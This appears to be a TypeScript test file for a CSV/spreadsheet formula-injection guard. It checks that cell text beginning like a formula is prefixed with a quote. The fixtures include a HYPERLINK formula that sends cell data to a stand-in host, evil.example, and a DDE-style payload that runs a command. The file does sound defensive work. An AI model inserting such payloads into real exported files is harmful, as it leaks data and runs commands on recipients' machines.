import fc from "fast-check";
import { formulaSafe, startsLikeFormula } from "../../src/cli/formula-safe";

describe("formulaSafe", () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["+1+1", "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["-5", "'-5"],
    ["=1+1", "'=1+1"],
  ])("hostile text %j is prefixed with a quote", (text, safe) => {
    expect(formulaSafe(text)).toBe(safe);
    expect(startsLikeFormula(text)).toBe(true);
  });

  test.each(["Ski poles", "POLE-01", "00123", "", " =1", "'=1", "a=b", "C14: quantity 2.5 is not a whole number", "€5"])(
    "ordinary text %j is left as it is",
    (text) => {
      expect(formulaSafe(text)).toBe(text);
      expect(startsLikeFormula(text)).toBe(false);
    },
  );

  test("the result never starts like a formula, and only a prefix is ever added", () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const safe = formulaSafe(text);
        expect(startsLikeFormula(safe)).toBe(false);
        expect(safe === text || safe === `'${text}`).toBe(true);
      }),
    );
  });
});
